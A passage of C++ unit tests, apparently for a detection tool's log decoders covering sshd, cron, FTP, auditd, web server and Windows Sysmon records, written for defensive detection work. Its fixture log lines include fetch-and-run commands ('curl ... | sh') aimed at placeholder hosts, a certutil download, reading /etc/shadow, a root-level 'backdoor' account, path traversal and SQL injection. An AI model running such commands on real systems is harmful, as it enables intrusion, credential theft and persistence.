      "euid=0 tty= ruser=alice rhost=  user=root");
  EXPECT_EQ(F(b, "event.action"), "su");
  EXPECT_EQ(F(b, "user.name"), "alice");
  EXPECT_EQ(F(b, "user.target.name"), "root");
  Event c =
      Decode("Jun 15 04:06:18 combo su(pam_unix)[21416]: session opened for user cyrus by (uid=0)");
  EXPECT_EQ(F(c, "event.action"), "session_opened");
  EXPECT_EQ(F(c, "user.name"), "cyrus");
}

TEST(WebAccessTest, Combined) {
  Event ev = Decode(
      "203.0.113.50 - frank [28/Nov/2026:10:30:01 +0300] \"GET /p.php?id=1%20OR%201=1 HTTP/1.1\" "
      "404 "
      "512 \"http://x/\" \"Mozilla/5.0 \\\"quoted\\\"\"");
  EXPECT_EQ(F(ev, "source.ip"), "203.0.113.50");
  EXPECT_EQ(F(ev, "user.name"), "frank");
  EXPECT_EQ(F(ev, "http.request.method"), "GET");
  EXPECT_EQ(F(ev, "url.original"), "/p.php?id=1%20OR%201=1");
  EXPECT_EQ(F(ev, "url.path"), "/p.php");
  EXPECT_EQ(F(ev, "url.query"), "id=1%20OR%201=1");
  EXPECT_EQ(F(ev, "http.response.status_code"), "404");
  EXPECT_EQ(F(ev, "http.response.body.bytes"), "512");
  EXPECT_EQ(F(ev, "http.request.referrer"), "http://x/");
  EXPECT_EQ(F(ev, "user_agent.original"), "Mozilla/5.0 \\\"quoted\\\"");
  EXPECT_EQ(F(ev, "cs-uri-query"), "/p.php?id=1%20OR%201=1");
  EXPECT_EQ(F(ev, "@timestamp"), "2026-11-28T07:30:01Z");
  EXPECT_TRUE(Has(ev.categories, "webserver"));
  Event common = Decode("::1 - - [28/Nov/2026:10:30:01 +0000] \"OPTIONS * HTTP/1.0\" 200 -");
  EXPECT_EQ(F(common, "http.request.method"), "OPTIONS");
  EXPECT_EQ(F(common, "source.ip"), "::1");
}

TEST(JsonTest, WindowsEventShapeGetsSigmaNames) {
  Event ev = Decode(
      R"({"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,)"
      R"("Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"pc1","Correlation":null},)"
      R"("EventData":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd /c whoami","ProcessId":42}}})");
  EXPECT_EQ(F(ev, "Event.EventData.Image"), "C:\\Windows\\System32\\cmd.exe");
  EXPECT_EQ(F(ev, "Image"), "C:\\Windows\\System32\\cmd.exe");
  EXPECT_EQ(F(ev, "CommandLine"), "cmd /c whoami");
  EXPECT_EQ(F(ev, "EventID"), "1");
  EXPECT_EQ(F(ev, "Provider_Name"), "Microsoft-Windows-Sysmon");
  EXPECT_EQ(F(ev, "Channel"), "Microsoft-Windows-Sysmon/Operational");
  EXPECT_EQ(F(ev, "Correlation"), "<absent>");
  EXPECT_EQ(F(ev, "host.hostname"), "pc1");
  EXPECT_TRUE(Has(ev.products, "windows"));
  EXPECT_TRUE(Has(ev.categories, "process_creation"));
  EXPECT_TRUE(Has(ev.services, "sysmon"));
}

TEST(JsonTest, WinlogbeatShapeGetsSigmaNames) {
  Event ev = Decode(
      R"({"@timestamp":"2026-11-28T10:00:00.000Z","event":{"code":"1","provider":"Microsoft-Windows-Sysmon"},)"
      R"("winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon",)"
      R"("computer_name":"pc1.belediye.local","record_id":12345,"process":{"pid":2100,"thread":{"id":3000}},)"
      R"("event_data":{"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x/a.exe a.exe","ParentImage":"C:\\Windows\\explorer.exe"}}})");
  EXPECT_EQ(F(ev, "Image"), "C:\\Windows\\System32\\certutil.exe");
  EXPECT_EQ(F(ev, "CommandLine"), "certutil -urlcache -f http://x/a.exe a.exe");
  EXPECT_EQ(F(ev, "EventID"), "1");
  EXPECT_EQ(F(ev, "Channel"), "Microsoft-Windows-Sysmon/Operational");
  EXPECT_EQ(F(ev, "Provider_Name"), "Microsoft-Windows-Sysmon");
  EXPECT_EQ(F(ev, "Computer"), "pc1.belediye.local");
  EXPECT_EQ(F(ev, "EventRecordID"), "12345");
  EXPECT_TRUE(Has(ev.products, "windows"));
  EXPECT_TRUE(Has(ev.categories, "process_creation"));
  EXPECT_TRUE(Has(ev.services, "sysmon"));
  // Generic JSON that merely has a "winlog" key of another meaning is not Windows.
  Event other = Decode(R"({"winlog":"rotated","app":"x"})");
  EXPECT_FALSE(Has(other.products, "windows"));
}

// Aliases copy values from fields of the same event; growing the field list
// must not invalidate them (short strings live inside the entries).
TEST(JsonTest, AliasesOfShortValuesSurviveGrowth) {
  std::string line =
      R"({"Event":{"System":{"EventID":4688,"Channel":"Security","Computer":"pc1"},"EventData":{)";
  for (int i = 0; i < 40; ++i)
    line += "\"F" + std::to_string(i) + "\":\"v" + std::to_string(i) + "\",";
  line += R"("NewProcessName":"C:\\x.exe","ParentProcessName":"C:\\p.exe"}}})";
  Event ev = Decode(line, InputFormat::kJson);
  EXPECT_EQ(F(ev, "host.hostname"), "pc1");
  EXPECT_EQ(F(ev, "Image"), "C:\\x.exe");
  EXPECT_EQ(F(ev, "ParentImage"), "C:\\p.exe");
  EXPECT_EQ(F(ev, "F39"), "v39");
  EXPECT_EQ(F(ev, "EventID"), "4688");
  EXPECT_TRUE(Has(ev.categories, "process_creation"));
}

TEST(JsonTest, GenericNestedAndArrays) {
  Event ev = Decode(R"({"a":{"b":[1,{"c":true}]},"msg":"x"})", InputFormat::kJson);
  EXPECT_EQ(F(ev, "a.b.0"), "1");
  EXPECT_EQ(F(ev, "a.b.1.c"), "true");
  EXPECT_EQ(F(ev, "msg"), "x");
  Event bad;
  EXPECT_FALSE(DecodeLine("{not json", "", InputFormat::kJson, &bad).ok());
}

// Real data: every line of the loghub sshd log decodes, and the peer of every
// "Failed password" line is found.
TEST(RealDataTest, OpenSsh2k) {
  SIPER_REQUIRE_SHARED("logs/loghub/OpenSSH_2k.log");
  std::ifstream in(testing::SharedData() / "logs/loghub/OpenSSH_2k.log");
  std::string line;
  int lines = 0, failed = 0, failed_decoded = 0, invalid = 0, invalid_decoded = 0, breakin = 0,
      breakin_decoded = 0, from_brute = 0;
  while (std::getline(in, line)) {
    ++lines;
    Event ev = Decode(line);
    EXPECT_EQ(F(ev, "host.hostname"), "LabSZ") << line;
    EXPECT_EQ(F(ev, "process.name"), "sshd") << line;
    if (line.find("Failed password") != std::string::npos) {
      ++failed;
      if (F(ev, "event.action") == "ssh_login" && F(ev, "source.ip") != "<absent>")
        ++failed_decoded;
      if (F(ev, "source.ip") == "183.62.140.253") ++from_brute;
    }
    if (line.find(": Invalid user") != std::string::npos) {
      ++invalid;
      if (F(ev, "event.action") == "ssh_invalid_user" && F(ev, "source.ip") != "<absent>")
        ++invalid_decoded;
    }
    if (line.find("POSSIBLE BREAK-IN") != std::string::npos) {
      ++breakin;
      if (F(ev, "source.ip") != "<absent>") ++breakin_decoded;
    }
  }
  EXPECT_EQ(lines, 2000);
  EXPECT_GT(failed, 400);
  EXPECT_EQ(failed_decoded, failed);
  EXPECT_EQ(invalid_decoded, invalid);
  EXPECT_EQ(breakin_decoded, breakin);
  EXPECT_GT(from_brute, 100);
}

TEST(RealDataTest, Linux2k) {
  SIPER_REQUIRE_SHARED("logs/loghub/Linux_2k.log");
  std::ifstream in(testing::SharedData() / "logs/loghub/Linux_2k.log");
  std::string line;
  int lines = 0, auth_failures = 0, with_host = 0;
  while (std::getline(in, line)) {
    ++lines;
    Event ev = Decode(line);
    EXPECT_EQ(F(ev, "host.hostname"), "combo") << line;
    if (line.find("authentication failure;") != std::string::npos) {
      ++auth_failures;
      EXPECT_EQ(F(ev, "event.outcome"), "failure") << line;
      if (F(ev, "source.address") != "<absent>") ++with_host;
    }
  }
  EXPECT_EQ(lines, 2000);
  EXPECT_GT(auth_failures, 300);
  EXPECT_GT(with_host, 300);
}

TEST(RealDataTest, NxlogWindowsEvents) {
  SIPER_REQUIRE_SHARED("logs/windows/nxlog-WinEvents.jsonl");
  std::ifstream in(testing::SharedData() / "logs/windows/nxlog-WinEvents.jsonl");
  std::string line;
  int lines = 0;
  std::map<std::string, int> channels;
  while (std::getline(in, line)) {
    ++lines;
    Event ev = Decode(line, InputFormat::kJson);
    EXPECT_TRUE(Has(ev.products, "windows")) << line.substr(0, 200);
    EXPECT_NE(F(ev, "EventID"), "<absent>");
    EXPECT_NE(ev.time_unix_ns, 0);
    ++channels[F(ev, "Channel")];
  }
  EXPECT_EQ(lines, 338);
  EXPECT_GT(channels["Security"], 0);
}

}  // namespace
}  // namespace siper::rules

namespace siper::rules {
namespace {

std::string G(const Event& ev, const std::string& key) {
  auto it = ev.fields.find(key);
  return it == ev.fields.end() ? "<absent>" : std::string(it->second);
}

Event D(std::string_view line) {
  Event ev;
  EXPECT_TRUE(DecodeLine(line, "", InputFormat::kAuto, &ev).ok());
  return ev;
}

TEST(AccountChangeTest, UseraddGroupaddUsermod) {
  Event u =
      D("Nov 28 10:40:00 web1 useradd[4100]: new user: name=backdoor, UID=0, GID=0, home=/root, "
        "shell=/bin/bash, from=/dev/pts/1");
  EXPECT_EQ(G(u, "event.action"), "user_created");
  EXPECT_EQ(G(u, "user.target.name"), "backdoor");
  EXPECT_EQ(G(u, "user.target.id"), "0");
  EXPECT_EQ(G(u, "user.target.shell"), "/bin/bash");
  Event g =
      D("Nov 28 10:40:00 web1 groupadd[4101]: group added to /etc/group: name=devs, GID=1002");
  EXPECT_EQ(G(g, "event.action"), "group_created");
  EXPECT_EQ(G(g, "group.name"), "devs");
  Event m = D("Nov 28 10:40:01 web1 usermod[4102]: add 'backdoor' to group 'sudo'");
  EXPECT_EQ(G(m, "event.action"), "user_added_to_group");
  EXPECT_EQ(G(m, "user.target.name"), "backdoor");
  EXPECT_EQ(G(m, "group.name"), "sudo");
  Event d = D("Nov 28 10:40:02 web1 userdel[4103]: delete user 'olduser'");
  EXPECT_EQ(G(d, "event.action"), "user_deleted");
  Event p = D(
      "Nov 28 10:40:03 web1 passwd[4104]: pam_unix(passwd:chauthtok): password changed for alice");
  EXPECT_EQ(G(p, "event.action"), "password_changed");
  EXPECT_EQ(G(p, "user.name"), "alice");
}

TEST(KerberosLoginTest, FailureCarriesThePeer) {
  Event ev =
      D("Jun 30 20:53:04 combo klogind[19272]: Authentication failed from 163.27.187.39 "
        "(163.27.187.39): Permission denied in replay cache code ");
  EXPECT_EQ(G(ev, "event.action"), "kerberos_login");
  EXPECT_EQ(G(ev, "event.outcome"), "failure");
  EXPECT_EQ(G(ev, "source.ip"), "163.27.187.39");
  EXPECT_EQ(G(ev, "source.domain"), "<absent>");
  EXPECT_EQ(G(ev, "event.reason"), "Permission denied in replay cache code");
  Event other = D("Jun 30 20:53:04 combo klogind[19272]: Kerberos authentication failed ");
  EXPECT_EQ(G(other, "event.action"), "<absent>");
}

TEST(CronTest, Commands) {
  Event c =
      D("Nov 28 10:45:01 web1 CRON[5000]: (www-data) CMD (curl -s http://198.51.100.9/x.sh | sh)");
  EXPECT_EQ(G(c, "event.action"), "cron_command");
  EXPECT_EQ(G(c, "user.name"), "www-data");
  EXPECT_EQ(G(c, "process.command_line"), "curl -s http://198.51.100.9/x.sh | sh");
  // crontab(1) itself logs the edits: root replaced www-data's crontab.
  Event r = D("Nov 28 10:45:02 web1 crontab[5001]: (root) REPLACE (www-data)");
  EXPECT_EQ(G(r, "event.action"), "crontab_replaced");
  EXPECT_EQ(G(r, "user.name"), "root");
  EXPECT_EQ(G(r, "user.target.name"), "www-data");
  Event r2 = D("Nov 28 10:45:02 web1 cron[5001]: (root) REPLACE (www-data)");
  EXPECT_EQ(G(r2, "event.action"), "crontab_replaced");
}

TEST(FtpTest, VsftpdAndLoghubFtpd) {
  Event v =
      D("Nov 28 10:50:00 web1 vsftpd[6000]: [anonymous] FAIL LOGIN: Client \"::ffff:203.0.113.8\"");
  EXPECT_EQ(G(v, "event.action"), "ftp_login");
  EXPECT_EQ(G(v, "event.outcome"), "failure");
  EXPECT_EQ(G(v, "user.name"), "anonymous");
  EXPECT_EQ(G(v, "source.ip"), "203.0.113.8");
  Event f =
      D("Jun 17 07:07:00 combo ftpd[29504]: connection from 24.54.76.216 "
        "(24-54-76-216.bflony.adelphia.net) at Fri Jun 17 07:07:00 2005 ");
  EXPECT_EQ(G(f, "event.action"), "ftp_connection");
  EXPECT_EQ(G(f, "source.ip"), "24.54.76.216");
  EXPECT_EQ(G(f, "source.domain"), "24-54-76-216.bflony.adelphia.net");
}

TEST(FtpTest, ProftpdAndPureFtpd) {
  Event a =
      D("Nov 28 10:00:13 deb12 proftpd[500]: deb12 (198.51.100.13[198.51.100.13]) - USER admin "
        "(Login failed): Incorrect password");
  EXPECT_EQ(G(a, "event.action"), "ftp_login");
  EXPECT_EQ(G(a, "event.outcome"), "failure");
  EXPECT_EQ(G(a, "user.name"), "admin");
  EXPECT_EQ(G(a, "source.ip"), "198.51.100.13");
  EXPECT_EQ(G(a, "source.domain"), "<absent>");
  EXPECT_EQ(G(a, "event.reason"), "Incorrect password");
  Event b =
      D("Nov 28 10:00:14 ftp1 proftpd[501]: ftp1 (host.example.net[198.51.100.14]) - USER bob: no "
        "such user found from host.example.net [198.51.100.14] to 10.1.1.1:21");
  EXPECT_EQ(G(b, "event.outcome"), "failure");
  EXPECT_EQ(G(b, "user.name"), "bob");
  EXPECT_EQ(G(b, "source.ip"), "198.51.100.14");
  EXPECT_EQ(G(b, "source.domain"), "host.example.net");
  Event c =
      D("Nov 28 10:00:15 ftp1 proftpd[502]: ftp1 (::ffff:198.51.100.15[::ffff:198.51.100.15]) - "
        "Maximum login attempts (3) exceeded, connection refused");
  EXPECT_EQ(G(c, "event.outcome"), "failure");
  EXPECT_EQ(G(c, "source.ip"), "198.51.100.15");
  EXPECT_EQ(G(c, "user.name"), "<absent>");
  Event ok =
      D("Nov 28 10:00:16 ftp1 proftpd[503]: ftp1 (198.51.100.16[198.51.100.16]) - USER carol: "
        "Login successful.");
  EXPECT_EQ(G(ok, "event.outcome"), "success");
  EXPECT_EQ(G(ok, "user.name"), "carol");
  // A user name imitating the prefix moves neither the peer nor hides the failure.
  Event x =
      D("Nov 28 10:00:18 ftp1 proftpd[504]: ftp1 (198.51.100.18[198.51.100.18]) - USER x]) - USER "
        "y (Login failed): Incorrect password");
  EXPECT_EQ(G(x, "event.outcome"), "failure");
  EXPECT_EQ(G(x, "source.ip"), "198.51.100.18");
  EXPECT_EQ(G(x, "user.name"), "x]) - USER y");
  Event p =
      D("Nov 28 10:00:19 ftp1 pure-ftpd: (?@198.51.100.19) [WARNING] Authentication failed "
        "for user [admin]");
  EXPECT_EQ(G(p, "event.action"), "ftp_login");
  EXPECT_EQ(G(p, "event.outcome"), "failure");
  EXPECT_EQ(G(p, "user.name"), "admin");
  EXPECT_EQ(G(p, "source.ip"), "198.51.100.19");
  Event q = D("Nov 28 10:00:20 ftp1 pure-ftpd: (?@ftp.example.org) [INFO] alice is now logged in");
  EXPECT_EQ(G(q, "event.outcome"), "success");
  EXPECT_EQ(G(q, "user.name"), "alice");
  EXPECT_EQ(G(q, "source.domain"), "ftp.example.org");
  // Other ProFTPD lines are left as they are.
  Event r =
      D("Nov 28 10:00:21 ftp1 proftpd[505]: ftp1 - ProFTPD 1.3.8 (stable) standalone mode "
        "STARTUP");
  EXPECT_EQ(G(r, "event.action"), "<absent>");
}

TEST(FtpTest, VsftpdOwnLog) {
  Event a = D("Sat Nov  8 10:00:00 2026 [pid 1234] [bob] FAIL LOGIN: Client \"203.0.113.8\"");
  EXPECT_EQ(G(a, "event.action"), "ftp_login");
  EXPECT_EQ(G(a, "event.outcome"), "failure");
  EXPECT_EQ(G(a, "user.name"), "bob");
  EXPECT_EQ(G(a, "source.ip"), "203.0.113.8");
  EXPECT_EQ(G(a, "process.name"), "vsftpd");
  EXPECT_EQ(G(a, "process.pid"), "1234");
  EXPECT_EQ(G(a, "@timestamp"), "2026-11-08T10:00:00Z");
  Event c = D("Sat Nov 28 10:00:01 2026 [pid 1235] CONNECT: Client \"::ffff:203.0.113.8\"");
  EXPECT_EQ(G(c, "process.name"), "vsftpd");
  EXPECT_EQ(G(c, "message"), "[pid 1235] CONNECT: Client \"::ffff:203.0.113.8\"");
  // Not a date: not vsftpd's log.
  Event n = D("Sat Nov 28 10:00:01 20xx [pid 1235] [bob] FAIL LOGIN: Client \"1.2.3.4\"");
  EXPECT_EQ(G(n, "process.name"), "<absent>");
}

TEST(AuditdTest, SyscallExecveAndUserRecords) {
  Event sc =
      D("type=SYSCALL msg=audit(1764324000.123:456): arch=c000003e syscall=41 success=yes exit=3 "
        "a0=26 a1=80005 items=0 ppid=1 pid=2345 auid=1000 uid=0 comm=\"python3\" "
        "exe=\"/usr/bin/python3.11\" key=\"af_alg_detect\"\x1d"
        "ARCH=x86_64 SYSCALL=socket AUID=\"alice\" UID=\"root\"");
  EXPECT_EQ(G(sc, "type"), "SYSCALL");
  EXPECT_EQ(G(sc, "syscall"), "41");
  EXPECT_EQ(G(sc, "SYSCALL"), "socket");  // the ENRICHED part after 0x1d
  EXPECT_EQ(G(sc, "a0"), "26");           // a number in hex, not a string
  EXPECT_EQ(G(sc, "exe"), "/usr/bin/python3.11");
  EXPECT_EQ(G(sc, "process.executable"), "/usr/bin/python3.11");
  EXPECT_EQ(G(sc, "process.name"), "python3");
  EXPECT_EQ(G(sc, "key"), "af_alg_detect");
  EXPECT_EQ(G(sc, "AUID"), "alice");
  EXPECT_EQ(G(sc, "auditd.log.sequence"), "456");
  EXPECT_EQ(G(sc, "@timestamp"), "2025-11-28T10:00:00.123Z");
  EXPECT_EQ(sc.products.ToVector(), std::vector<std::string>{"linux"});
  EXPECT_EQ(sc.services.ToVector(), std::vector<std::string>{"auditd"});

  // EXECVE arguments holding a space are hex; decoded to the text Sigma rules match.
  Event ex =
      D("type=EXECVE msg=audit(1764324001.000:458): argc=3 a0=\"bash\" a1=\"-c\" "
        "a2=6375726C20687474703A2F2F782E6578616D706C652F7368207C2062617368");
  EXPECT_EQ(G(ex, "a0"), "bash");
  EXPECT_EQ(G(ex, "a2"), "curl http://x.example/sh | bash");
  Event pt = D("type=PROCTITLE msg=audit(1764324001.000:458): proctitle=6C73002D6C61");
  EXPECT_EQ(G(pt, "proctitle"), "ls -la");  // arguments separated by NUL

  // User-space records nest their list in msg='...'.
  Event ua =
      D("type=USER_AUTH msg=audit(1764324002.000:459): pid=900 uid=0 auid=4294967295 "
        "msg='op=PAM:authentication grantors=? acct=\"root\" exe=\"/usr/sbin/sshd\" "
        "hostname=198.51.100.1 addr=198.51.100.1 terminal=ssh res=failed'\x1dUID=\"root\"");
  EXPECT_EQ(G(ua, "op"), "PAM:authentication");
  EXPECT_EQ(G(ua, "acct"), "root");
  EXPECT_EQ(G(ua, "user.name"), "root");
  EXPECT_EQ(G(ua, "source.ip"), "198.51.100.1");
  EXPECT_EQ(G(ua, "event.outcome"), "failure");
  EXPECT_EQ(G(ua, "res"), "failed");
  EXPECT_EQ(G(ua, "UID"), "root");

  // (null), '?' and lower-case hex-looking words stay as written.
  Event n =
      D("type=SYSCALL msg=audit(1764324003.000:460): syscall=59 comm=\"split\" key=(null) "
        "addr=? name=deadbeef");
  EXPECT_EQ(G(n, "key"), "(null)");
  EXPECT_EQ(G(n, "source.ip"), "<absent>");
  EXPECT_EQ(G(n, "name"), "deadbeef");

  // Through syslog (audispd's plugin), with the node name first.
  Event sl =
      D("Nov 28 11:02:00 web1 audispd: node=web1 type=EXECVE msg=audit(1764320520.123:812): "
        "argc=2 a0=\"cat\" a1=\"/etc/shadow\"");
  EXPECT_EQ(G(sl, "node"), "web1");
  EXPECT_EQ(G(sl, "type"), "EXECVE");
  EXPECT_EQ(G(sl, "a1"), "/etc/shadow");
  EXPECT_NE(std::find(sl.services.begin(), sl.services.end(), "auditd"), sl.services.end());

  // Not an audit record: left to the message fallback.
  Event bad = D("type=SYSCALL msg=audit(garbage): x=1");
  EXPECT_EQ(G(bad, "type"), "<absent>");
  EXPECT_TRUE(bad.services.empty());
}

TEST(WebErrorTest, Apache24Apache22Nginx) {
  Event a =
      D("[Sat Nov 28 10:55:00.123456 2026] [core:error] [pid 1234:tid 140] [client "
        "203.0.113.9:50122] AH00126: Invalid URI in request GET /..%2f..%2fetc/passwd HTTP/1.1");
  EXPECT_EQ(G(a, "source.ip"), "203.0.113.9");
  EXPECT_EQ(G(a, "source.port"), "50122");
  EXPECT_EQ(G(a, "log.level"), "error");
  EXPECT_EQ(G(a, "error.code"), "AH00126");
  EXPECT_EQ(G(a, "url.original"), "/..%2f..%2fetc/passwd");
  EXPECT_EQ(G(a, "http.request.method"), "GET");
  EXPECT_EQ(G(a, "@timestamp"), "2026-11-28T10:55:00.123456Z");
  Event b =
      D("[Sat Nov 28 10:55:01 2026] [error] [client 198.51.100.3] File does not exist: "
        "/var/www/html/phpmyadmin");
  EXPECT_EQ(G(b, "source.ip"), "198.51.100.3");
  EXPECT_EQ(G(b, "file.path"), "/var/www/html/phpmyadmin");
  Event n =
      D("2026/11/28 10:55:02 [error] 1234#1234: *5 open() \"/usr/share/nginx/html/wp-login.php\" "
        "failed (2: No such file or directory), client: 192.0.2.44, server: localhost, request: "
        "\"GET /wp-login.php HTTP/1.1\", host: \"example\"");
  EXPECT_EQ(G(n, "source.ip"), "192.0.2.44");
  EXPECT_EQ(G(n, "file.path"), "/usr/share/nginx/html/wp-login.php");
  EXPECT_EQ(G(n, "url.original"), "/wp-login.php");
  EXPECT_EQ(G(n, "log.level"), "error");
  EXPECT_EQ(G(n, "@timestamp"), "2026-11-28T10:55:02Z");
}

TEST(WebErrorTest, HttpAuthenticationFailures) {
  Event a =
      D("[Sat Nov 28 10:56:00.000001 2026] [auth_basic:error] [pid 4321:tid 140] [client "
        "203.0.113.9:50123] AH01617: user admin: authentication failure for \"/admin\": "
        "Password Mismatch");
  EXPECT_EQ(G(a, "event.action"), "http_auth");
  EXPECT_EQ(G(a, "event.outcome"), "failure");
  EXPECT_EQ(G(a, "user.name"), "admin");
  EXPECT_EQ(G(a, "url.path"), "/admin");
  EXPECT_EQ(G(a, "source.ip"), "203.0.113.9");
  EXPECT_EQ(G(a, "error.code"), "AH01617");
  Event b =
      D("[Sat Nov 28 10:56:01 2026] [error] [client 198.51.100.3] user ghost not found: "
        "/private/index.html");
  EXPECT_EQ(G(b, "event.action"), "http_auth");
  EXPECT_EQ(G(b, "user.name"), "ghost");
  EXPECT_EQ(G(b, "url.path"), "/private/index.html");
  EXPECT_EQ(G(b, "source.ip"), "198.51.100.3");
  // The real peer wins over an address an attacker puts in the user name.
  Event c =
      D("[Sat Nov 28 10:56:02.5 2026] [auth_basic:error] [pid 1] [client 192.0.2.7:1] AH01618: "
        "user x from 10.0.0.1 port 22 not found: /admin");
  EXPECT_EQ(G(c, "user.name"), "x from 10.0.0.1 port 22");
  EXPECT_EQ(G(c, "source.ip"), "192.0.2.7");
  Event n =
      D("2026/11/28 10:56:03 [error] 77#77: *9 user \"root\": password mismatch, client: "
        "192.0.2.44, server: localhost, request: \"GET /status HTTP/1.1\", host: \"x\"");
  EXPECT_EQ(G(n, "event.action"), "http_auth");
  EXPECT_EQ(G(n, "user.name"), "root");
  EXPECT_EQ(G(n, "source.ip"), "192.0.2.44");
  EXPECT_EQ(G(n, "url.path"), "/status");
  Event m =
      D("2026/11/28 10:56:04 [error] 77#77: *10 user \"bob\" was not found in "
        "\"/etc/nginx/.htpasswd\", client: 192.0.2.45, server: localhost, request: \"GET / "
        "HTTP/1.1\"");
  EXPECT_EQ(G(m, "user.name"), "bob");
  EXPECT_EQ(G(m, "source.ip"), "192.0.2.45");
  // Other errors that start with "user" are not authentication failures.
  Event o = D("[Sat Nov 28 10:56:05 2026] [error] [client 192.0.2.1] user admin: no password");
  EXPECT_EQ(G(o, "event.action"), "<absent>");
  EXPECT_EQ(G(o, "user.name"), "<absent>");
}

TEST(DecodeLineTest, UnknownTextKeepsOnlyTheMessage) {
  Event ev;
  ASSERT_TRUE(DecodeLine("<13>garbage without a date", "/x.log", InputFormat::kAuto, &ev).ok());
  EXPECT_EQ(G(ev, "message"), "<13>garbage without a date");
  EXPECT_EQ(G(ev, "log.file.path"), "/x.log");
  EXPECT_EQ(G(ev, "log.syslog.priority"), "<absent>");
  EXPECT_TRUE(ev.products.empty());
}

}  // namespace
}  // namespace siper::rules

namespace siper::rules {
namespace {

// Decoders see hostile input: random bytes and mutated real lines must never
// crash, hang or fail (text decoding always succeeds).
TEST(DecoderRobustnessTest, RandomAndMutatedLines) {
  const std::vector<std::string> seeds = {
      "Dec 10 07:07:38 LabSZ sshd[24206]: Failed password for invalid user test9 from 52.80.34.196 "
      "port 36060 ssh2",
      "<165>1 2026-11-28T10:00:00.000Z host1 sshd 4242 ID47 [a b=\"c\"] Accepted password for bob "
      "from 1.2.3.4 port 2 ssh2",
      "203.0.113.50 - - [28/Nov/2026:10:30:01 +0300] \"GET /x HTTP/1.1\" 200 5 \"-\" \"ua\"",
      "Nov 28 10:20:00 web1 sudo:  www-data : TTY=pts/1 ; PWD=/var/www ; USER=root ; "
      "COMMAND=/bin/bash",
      "[Sat Nov 28 10:55:01 2026] [error] [client 198.51.100.3] File does not exist: /var/www/x",
      R"({"Event":{"System":{"EventID":1},"EventData":{"Image":"x"}}})",
      "type=USER_AUTH msg=audit(1764324002.000:459): pid=900 msg='op=PAM:authentication "
      "acct=\"root\" addr=198.51.100.1 res=failed'\x1dUID=\"root\" a1=2F746D70",
      "Nov 28 10:00:13 h proftpd[500]: h (198.51.100.13[198.51.100.13]) - USER a (Login failed): x",
  };
  uint64_t state = 0x9e3779b97f4a7c15ULL;
  auto next = [&] {
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return state;
  };
  Event ev;
  for (int i = 0; i < 20000; ++i) {
    std::string line = seeds[next() % seeds.size()];
    const int edits = 1 + static_cast<int>(next() % 8);
    for (int e = 0; e < edits && !line.empty(); ++e) {
      size_t pos = next() % line.size();
      switch (next() % 4) {
        case 0:
          line[pos] = static_cast<char>(next() & 0xFF);
          break;
        case 1:
          line.erase(pos, 1 + next() % 10);
          break;
        case 2:
          line.insert(pos, std::string(1 + next() % 5, static_cast<char>(next() & 0xFF)));
          break;
        default:
          line = line.substr(0, pos);
          break;
      }
    }
    ASSERT_TRUE(DecodeLine(line, "", InputFormat::kAuto, &ev).ok()) << line;
    (void)DecodeLine(line, "", InputFormat::kJson, &ev);
  }
}

}  // namespace
}  // namespace siper::rules

namespace siper::rules {
namespace {

// EventFields keeps names and values in an arena of blocks that never move.
TEST(EventFieldsTest, SetFindOverwriteAndEmptyValues) {
  EventFields f;
  EXPECT_TRUE(f.empty());
  EXPECT_EQ(f.find("a"), f.end());
  EXPECT_EQ(f.at("a"), "");
  f.insert_or_assign("a", "1");
  f.insert_or_assign("empty", "");
  f.insert_or_assign("", "empty name");
  EXPECT_EQ(f.size(), 3u);
  EXPECT_EQ(f.at("a"), "1");
  ASSERT_NE(f.find("empty"), f.end());
  EXPECT_EQ(f.find("empty")->second, "");
  EXPECT_EQ(f.at(""), "empty name");
  f.insert_or_assign("a", "two");
  EXPECT_EQ(f.at("a"), "two");
  EXPECT_FALSE(f.try_emplace("a", "three"));
  EXPECT_TRUE(f.try_emplace("b", "3"));
  EXPECT_EQ(f.at("a"), "two");
  // Iteration keeps the order of first setting.
  std::vector<std::string> names;
  for (const auto& [k, v] : f) names.emplace_back(k);
  EXPECT_EQ(names, (std::vector<std::string>{"a", "empty", "", "b"}));
  // A value set from another field's own view (aliasing the arena).
  f.insert_or_assign("c", f.at("a"));
  f.insert_or_assign("a", f.at("a").substr(1));
  EXPECT_EQ(f.at("c"), "two");
  EXPECT_EQ(f.at("a"), "wo");
}

TEST(EventFieldsTest, LongValuesManyFieldsAndStableViews) {
  EventFields f;
  const std::string huge(100000, 'x');  // longer than an arena block
  f.insert_or_assign("huge", huge);
  const std::string_view first = f.at("huge");
  for (int i = 0; i < 1000; ++i) {
    f.insert_or_assign("field." + std::to_string(i), std::string(i % 50, 'a' + i % 26));
  }
  EXPECT_EQ(f.size(), 1001u);
  EXPECT_EQ(f.at("huge"), huge);
  EXPECT_EQ(first.data(), f.at("huge").data());  // not moved by later fields
  for (int i = 0; i < 1000; ++i) {
    ASSERT_EQ(f.at("field." + std::to_string(i)), std::string(i % 50, 'a' + i % 26)) << i;
  }
  // Names of every length hash and compare correctly (the hash reads 8, 4 or 1 bytes).
  EventFields g;
  std::string name;
  for (int n = 1; n <= 40; ++n) {
    name.push_back(static_cast<char>('a' + n % 26));
    g.insert_or_assign(name, std::to_string(n));
  }
  name.clear();
  for (int n = 1; n <= 40; ++n) {
    name.push_back(static_cast<char>('a' + n % 26));
    ASSERT_EQ(g.at(name), std::to_string(n)) << n;
  }
  // clear() keeps the arena for reuse; everything reads back after it.
  f.clear();
  EXPECT_TRUE(f.empty());
  EXPECT_EQ(f.find("huge"), f.end());
  f.insert_or_assign("huge", huge + "y");
  f.insert_or_assign("k", "v");
  EXPECT_EQ(f.at("huge"), huge + "y");
  EXPECT_EQ(f.at("k"), "v");
}

TEST(EventFieldsTest, BytesAreKeptAsGiven) {
  EventFields f;
  const std::string invalid_utf8("\xff\xfe\xc3(\x80", 5);
  const std::string with_nul("a\0b", 3);
  f.insert_or_assign("bad", invalid_utf8);
  f.insert_or_assign(with_nul, with_nul);
  EXPECT_EQ(f.at("bad"), invalid_utf8);
  EXPECT_EQ(f.at(with_nul), with_nul);
  EXPECT_EQ(f.find("a"), f.end());
  FieldMap m = f.ToMap();
  EXPECT_EQ(m.at("bad"), invalid_utf8);
